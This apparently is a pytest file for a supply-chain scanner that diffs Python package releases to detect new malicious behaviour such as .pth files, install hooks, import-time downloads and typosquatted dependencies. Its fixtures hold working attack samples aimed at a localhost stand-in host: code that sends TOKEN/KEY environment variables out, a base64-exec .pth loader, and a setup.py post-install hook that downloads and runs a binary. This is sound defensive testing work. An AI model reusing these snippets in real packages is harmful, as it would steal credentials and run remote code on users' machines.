"""The release diff: a release is compared with the project's previous one, and what it newly
does (start-up files, install hooks, import-time network or processes, obfuscated data, new
dependencies on look-alike or young names) is evidence; what every release does is not.

The archives are built here, inert: the scanner reads them as data.
"""

from __future__ import annotations

import base64
import io
import json
import os
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest

from bastion.scanning import scan_bytes
from bastion.scanning.diff import DependencyFacts, DiffOptions, DiffResult, scan_with_previous
from bastion.scanning.result import Finding, Severity, Verdict

#: The library every release below starts from: eight modules (not a "small" package), one
#: of which already talks HTTP in a function.
BASE_MODULES: dict[str, str] = {
    "demo/__init__.py": '"""Demo."""\nfrom demo.core import greet\n\n__version__ = "1.0"\n',
    "demo/core.py": "def greet(name):\n    return 'hello ' + name\n",
    "demo/client.py": (
        "import requests\n\n\ndef fetch(url, timeout=10):\n"
        "    return requests.get(url, timeout=timeout).json()\n"
    ),
    "demo/util.py": "import os\n\n\ndef home():\n    return os.path.expanduser('~')\n",
    "demo/models.py": "class Thing:\n    def __init__(self, n):\n        self.n = n\n",
    "demo/errors.py": "class DemoError(Exception):\n    pass\n",
    "demo/text.py": "def shout(s):\n    return s.upper()\n",
    "demo/numbers.py": "def double(n):\n    return 2 * n\n",
}

PAYLOAD = (
    "import os, json, urllib.request\n"
    "data = {k: v for k, v in os.environ.items() if 'TOKEN' in k or 'KEY' in k}\n"
    "urllib.request.urlopen('http://127.0.0.1:8999/c', data=json.dumps(data).encode())\n"
)
PTH_PAYLOAD = (
    f"import base64; exec(base64.b64decode('{base64.b64encode(PAYLOAD.encode()).decode()}'))\n"
)
DOWNLOAD_AND_RUN = (
    "import os, subprocess, tempfile, urllib.request\n"
    "_p = os.path.join(tempfile.gettempdir(), 'helper')\n"
    "urllib.request.urlretrieve('http://127.0.0.1:8999/helper', _p)\n"
    "subprocess.Popen([_p], stdout=subprocess.DEVNULL)\n"
)


def wheel(
    version: str,
    changes: dict[str, str | None] | None = None,
    requires: tuple[str, ...] = (),
) -> bytes:
    """demo ``version`` as a wheel: the base modules with ``changes`` (None removes a file)."""
    files: dict[str, str | None] = {**BASE_MODULES, **(changes or {})}
    meta = "Metadata-Version: 2.1\nName: demo\nVersion: " + version + "\n"
    meta += "".join(f"Requires-Dist: {r}\n" for r in requires)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in files.items():
            if text is not None:
                zf.writestr(name, text)
        zf.writestr(f"demo-{version}.dist-info/METADATA", meta)
        zf.writestr(f"demo-{version}.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
    return buf.getvalue()


SETUP = "from setuptools import setup\nsetup(name='demo', version='{v}', packages=['demo'])\n"
HOOK_SETUP = """import subprocess, urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlretrieve("http://127.0.0.1:8999/agent", "/tmp/agent")
        subprocess.Popen(["/tmp/agent"])


setup(name="demo", version="{v}", packages=["demo"], cmdclass={{"install": PostInstall}})
"""


def sdist(version: str, setup: str = SETUP) -> bytes:
    buf = io.BytesIO()
    top = f"demo-{version}"
    files = {
        **BASE_MODULES,
        "setup.py": setup.format(v=version),
        "PKG-INFO": f"Metadata-Version: 2.1\nName: demo\nVersion: {version}\n",
    }
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{top}/{name}")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def diff(
    new: bytes,
    old: bytes,
    *,
    info: DependencyFacts | None = None,
    new_name: str = "demo-1.1-py3-none-any.whl",
    old_name: str = "demo-1.0-py3-none-any.whl",
) -> DiffResult:
    return scan_with_previous(
        io.BytesIO(new),
        new_name,
        io.BytesIO(old),
        old_name,
        dependency_info=lambda name: info or DependencyFacts(known=True, age_days=900),
    )


def one(findings: list[Finding], rule: str) -> Finding:
    found = [f for f in findings if f.rule == rule]
    assert len(found) == 1, findings
    return found[0]


def test_the_base_release_is_clean_and_compared_with_itself_adds_nothing() -> None:
    old = wheel("1.0")
    assert scan_bytes(old, "demo-1.0-py3-none-any.whl").verdict is Verdict.CLEAN
    result = diff(old, old)
    assert result.diff == [] and result.result.verdict is Verdict.CLEAN


def test_a_new_pth_file_that_runs_decoded_code_is_high_with_its_line() -> None:
    result = diff(wheel("1.1", {"demo_init.pth": PTH_PAYLOAD}), wheel("1.0"))
    f = one(result.diff, "release-diff-pth")
    assert f.severity is Severity.HIGH
    assert (f.file, f.line) == ("demo_init.pth", 1)
    assert f.excerpt is not None and f.excerpt.startswith("import base64; exec(base64.b64decode(")
    assert "no such file" in f.message
    assert result.result.verdict is Verdict.MALICIOUS
    assert f in result.result.findings


def test_a_new_pth_file_with_only_an_import_line_is_worth_a_look() -> None:
    result = diff(wheel("1.1", {"demo_hook.pth": "import demo.hook\n"}), wheel("1.0"))
    f = one(result.diff, "release-diff-pth")
    assert f.severity is Severity.MEDIUM
    # a .pth of paths only (no code) is recorded, not weighed
    result = diff(wheel("1.1", {"demo_paths.pth": "extra/dir\n"}), wheel("1.0"))
    assert one(result.diff, "release-diff-pth").severity is Severity.INFO
    assert result.result.verdict is Verdict.CLEAN


def test_a_module_body_that_newly_downloads_and_starts_a_program_is_high() -> None:
    changed = BASE_MODULES["demo/util.py"] + DOWNLOAD_AND_RUN
    result = diff(wheel("1.1", {"demo/util.py": changed}), wheel("1.0"))
    f = one(result.diff, "release-diff-import-behaviour")
    assert f.severity is Severity.HIGH
    assert f.file == "demo/util.py"
    assert f.line == changed.splitlines().index(DOWNLOAD_AND_RUN.splitlines()[2]) + 1
    assert f.excerpt == "urllib.request.urlretrieve('http://127.0.0.1:8999/helper', _p)"
    assert "network, process" in f.message
    assert result.result.verdict is Verdict.MALICIOUS


def test_the_same_calls_in_a_function_are_library_code_and_do_not_decide() -> None:
    body = "\n".join("    " + line for line in DOWNLOAD_AND_RUN.splitlines())
    changed = BASE_MODULES["demo/util.py"] + "\n\ndef install_helper():\n" + body + "\n"
    result = diff(wheel("1.1", {"demo/util.py": changed}), wheel("1.0"))
    assert not [f for f in result.diff if f.rule == "release-diff-import-behaviour"]
    f = one(result.diff, "release-diff-library-behaviour")
    assert f.severity is Severity.LOW and "process" in f.message
    assert result.result.verdict is Verdict.CLEAN


def test_a_new_install_hook_that_downloads_and_runs_is_high() -> None:
    result = diff(
        sdist("1.1", HOOK_SETUP),
        sdist("1.0"),
        new_name="demo-1.1.tar.gz",
        old_name="demo-1.0.tar.gz",
    )
    behaviour = one(result.diff, "release-diff-install-behaviour")
    assert behaviour.severity is Severity.HIGH
    assert behaviour.file == "demo-1.1/setup.py"
    assert behaviour.excerpt is not None and "urlretrieve" in behaviour.excerpt
    hook = one(result.diff, "release-diff-install-hook")
    assert "install" in hook.message and hook.severity is Severity.MEDIUM
    assert result.result.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    ("facts", "severity", "why"),
    [
        (DependencyFacts(known=False, lookalike_of="requests"), Severity.HIGH, "imitates"),
        (DependencyFacts(known=True, age_days=2), Severity.HIGH, "for 2 day(s)"),
        (DependencyFacts(known=False), Severity.MEDIUM, "not a project of this index"),
        (DependencyFacts(known=True, age_days=2, same_owners=True), Severity.LOW, "owner"),
    ],
)
def test_a_new_dependency_is_weighed_by_what_the_index_knows_of_it(
    facts: DependencyFacts, severity: Severity, why: str
) -> None:
    result = diff(wheel("1.1", requires=("reqeusts>=2",)), wheel("1.0"), info=facts)
    f = one(result.diff, "release-diff-dependency")
    assert f.severity is severity and why in f.message
    assert f.excerpt == "Requires-Dist: reqeusts>=2"
    assert f.file == "demo-1.1.dist-info/METADATA"
    assert "reqeusts" in f.message


def test_dependencies_that_are_popular_old_or_already_declared_add_nothing() -> None:
    old = wheel("1.0", requires=("attrs",))
    new = wheel("1.1", requires=("attrs>=23", "django; extra == 'web'"))
    popular = DependencyFacts(known=False, popular=True)
    assert diff(new, old, info=popular).diff == []
    established = DependencyFacts(known=True, age_days=400)
    assert diff(new, old, info=established).diff == []


def test_a_dependency_only_an_extra_pulls_in_counts_one_step_less() -> None:
    new = wheel("1.1", requires=("reqeusts; extra == 'http'",))
    result = diff(new, wheel("1.0"), info=DependencyFacts(known=False, lookalike_of="requests"))
    f = one(result.diff, "release-diff-dependency")
    assert f.severity is Severity.MEDIUM and "only with an extra" in f.message


def test_the_young_dependency_threshold_is_a_setting() -> None:
    new = wheel("1.1", requires=("helperlib",))
    young = DependencyFacts(known=True, age_days=10)
    result = scan_with_previous(
        io.BytesIO(new),
        "demo-1.1-py3-none-any.whl",
        io.BytesIO(wheel("1.0")),
        "demo-1.0-py3-none-any.whl",
        dependency_info=lambda name: young,
        options=DiffOptions(young_days=5),
    )
    assert result.diff == []


def test_a_new_obfuscated_blob_in_a_library_module_is_low() -> None:
    blob = base64.b64encode(bytes(range(256)) * 12).decode()
    result = diff(wheel("1.1", {"demo/data.py": f"DATA = '{blob}'\n"}), wheel("1.0"))
    f = one(result.diff, "release-diff-obfuscation")
    assert f.severity is Severity.LOW and f.file == "demo/data.py"


def test_what_every_release_does_adds_nothing() -> None:
    """New modules, new functions, more HTTP calls in a package that did HTTP, a module-level
    session object, a moved module: the verdict stays as it was and no diff finding is made."""
    changes: dict[str, str | None] = {
        "demo/__init__.py": BASE_MODULES["demo/__init__.py"].replace("1.0", "1.1"),
        "demo/numbers.py": None,
        "demo/maths/__init__.py": "",
        "demo/maths/numbers.py": "def double(n):\n    return 2 * n\n\n\ndef triple(n):\n"
        "    return 3 * n\n",
        "demo/api.py": (
            "import requests\n\nSESSION = requests.Session()\n\n\n"
            "def post(url, payload):\n    return SESSION.post(url, json=payload)\n\n\n"
            "def put(url, payload):\n    return requests.put(url, json=payload, timeout=5)\n"
        ),
        "demo/cli.py": (
            "import argparse\nimport subprocess\n\n\ndef main():\n"
            "    parser = argparse.ArgumentParser()\n    parser.parse_args()\n"
            "    if __name__ == '__main__':\n        subprocess.run(['git', 'status'])\n\n\n"
            "if __name__ == '__main__':\n    main()\n"
        ),
    }
    old = wheel("1.0")
    new = wheel("1.1", changes)
    before = scan_bytes(new, "demo-1.1-py3-none-any.whl")
    result = diff(new, old)
    # the first process a library starts (in a function) is noted, and weighs nothing
    assert [(f.rule, f.severity, f.file) for f in result.diff] == [
        ("release-diff-library-behaviour", Severity.LOW, "demo/cli.py")
    ]
    assert result.result.verdict is before.verdict is Verdict.CLEAN


def test_a_module_body_newly_running_git_is_only_worth_a_look() -> None:
    changed = (
        "import subprocess\n\nREV = subprocess.run(['git', 'rev-parse', 'HEAD'], "
        "capture_output=True).stdout\n"
    )
    result = diff(wheel("1.1", {"demo/version.py": changed}), wheel("1.0"))
    f = one(result.diff, "release-diff-import-behaviour")
    assert f.severity is Severity.MEDIUM


def test_a_wheel_is_not_compared_with_an_sdist_file_by_file() -> None:
    result = diff(
        wheel("1.1", requires=("reqeusts",)),
        sdist("1.0"),
        old_name="demo-1.0.tar.gz",
        info=DependencyFacts(known=False, lookalike_of="requests"),
    )
    assert [f.rule for f in result.diff] == ["release-diff-dependency"]


def test_scan_previous_on_the_command_line(tmp_path: Path) -> None:
    old = tmp_path / "demo-1.0-py3-none-any.whl"
    old.write_bytes(wheel("1.0"))
    new = tmp_path / "demo-1.1-py3-none-any.whl"
    new.write_bytes(wheel("1.1", {"demo_init.pth": PTH_PAYLOAD}, requires=("reqeusts",)))
    env = {k: v for k, v in os.environ.items() if k != "BASTION_SCAN_RULES_DIR"}
    cmd = [sys.executable, "-m", "bastion", "scan", str(new), "--previous", str(old)]
    proc = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert "release-diff-pth" in proc.stdout and "at demo_init.pth:1" in proc.stdout
    # offline, a look-alike of a popular name is known from the shipped names
    assert "New dependency in this release: reqeusts" in proc.stdout
    assert f"Compared with {old}" in proc.stdout
    proc = subprocess.run([*cmd, "--json"], capture_output=True, text=True, env=env, timeout=60)
    data = json.loads(proc.stdout)
    assert data["verdict"] == "malicious"
    assert data["previous"]["path"] == str(old)
    rules = {f["rule"] for f in data["previous"]["findings"]}
    assert {"release-diff-pth", "release-diff-dependency"} <= rules
    assert rules <= {f["rule"] for f in data["findings"]}
    missing = subprocess.run(
        [*cmd[:-1], str(tmp_path / "nope.whl")], capture_output=True, text=True, env=env
    )
    assert missing.returncode == 2 and "no such file" in missing.stderr


@pytest.mark.parametrize(
    "body",
    [
        "from urllib.request import urlretrieve as fetch\nfrom subprocess import Popen as run\n"
        "fetch('http://127.0.0.1:8999/x', '/tmp/x')\nrun(['/tmp/x'])\n",
        "import urllib.request as u, subprocess as s\ntry:\n    u.urlretrieve('http://127.0.0.1:8999/x', "
        "'/tmp/x')\n    s.Popen(['/tmp/x'])\nexcept Exception:\n    pass\n",
        "import urllib.request, subprocess\n\n\nclass Setup:\n    data = urllib.request.urlopen("
        "'http://127.0.0.1:8999/x').read()\n    subprocess.Popen(['sh', '-c', 'true'])\n",
    ],
)
def test_module_bodies_are_found_through_aliases_blocks_and_class_bodies(body: str) -> None:
    result = diff(wheel("1.1", {"demo/hooks.py": body}), wheel("1.0"))
    f = one(result.diff, "release-diff-import-behaviour")
    assert f.severity is Severity.HIGH and f.file == "demo/hooks.py"


@pytest.mark.parametrize(
    ("text", "may_act"),
    [
        ('"""Run with `subprocess`, or over requests."""\nimport subprocess\n', False),
        ("def f(\n    a,\n) -> int:\n    return subprocess.run(a)\n", False),
        ('def f():\n    """Doc\nat column 0 urlopen(x)\n"""\n    return urlopen(1)\n', False),
        ("x = 1  # urlopen(y)\n", False),
        ("import subprocess\nif True:\n    subprocess.run(['x'])\n", True),
        ("from os import system as go\n\nclass A:\n    go('x')\n", True),
        ("x = (\n    urlopen('http://127.0.0.1/')\n)\n", True),
    ],
)
def test_the_search_for_module_body_calls_skips_functions_strings_and_comments(
    text: str, may_act: bool
) -> None:
    from bastion.scanning.diff import _body_may_act

    assert _body_may_act(text) is may_act


def test_the_search_for_module_body_calls_costs_the_length_of_the_file_not_its_imports() -> None:
    """A file importing thousands of names: each is looked up in a set, not tried at every
    position of every line (that took 20 s for 230 KB, before any time limit was checked)."""
    import time

    from bastion.scanning.diff import _body_may_act

    names = [f"n{i}" for i in range(8000)]
    body = "\n".join(f"def f{i}():\n    n{i}()" for i in range(8000))
    text = f"from os import {', '.join(names)}\n{body}\nn7999('x')\n"
    started = time.perf_counter()
    assert _body_may_act(text) is True
    assert time.perf_counter() - started < 3


@pytest.mark.parametrize(
    "member",
    [
        ("demo.egg-info/requires.txt", "attrs\n\n[http]\nreqeusts\n"),
        ("src/demo.egg-info/requires.txt", "attrs\nreqeusts\n"),
        ("pyproject.toml", '[project]\nname = "demo"\ndependencies = ["attrs", "reqeusts"]\n'),
    ],
)
def test_an_sdist_declares_its_dependencies_in_requires_txt_or_pyproject(
    member: tuple[str, str],
) -> None:
    def build(version: str, extra: dict[str, str]) -> bytes:
        buf = io.BytesIO()
        files = {"setup.py": SETUP.format(v=version), "PKG-INFO": "Metadata-Version: 2.1\n"}
        with tarfile.open(fileobj=buf, mode="w:gz") as tf:
            for name, text in {**BASE_MODULES, **files, **extra}.items():
                data = text.encode()
                info = tarfile.TarInfo(f"demo-{version}/{name}")
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
        return buf.getvalue()

    path, text = member
    old = build("1.0", {path: text.replace("reqeusts", "")})
    new = build("1.1", {path: text})
    result = diff(
        new,
        old,
        new_name="demo-1.1.tar.gz",
        old_name="demo-1.0.tar.gz",
        info=DependencyFacts(known=False, lookalike_of="requests"),
    )
    f = one(result.diff, "release-diff-dependency")
    assert "reqeusts" in f.message and f.file == path
    assert f.severity is (Severity.MEDIUM if "[http]" in text else Severity.HIGH)
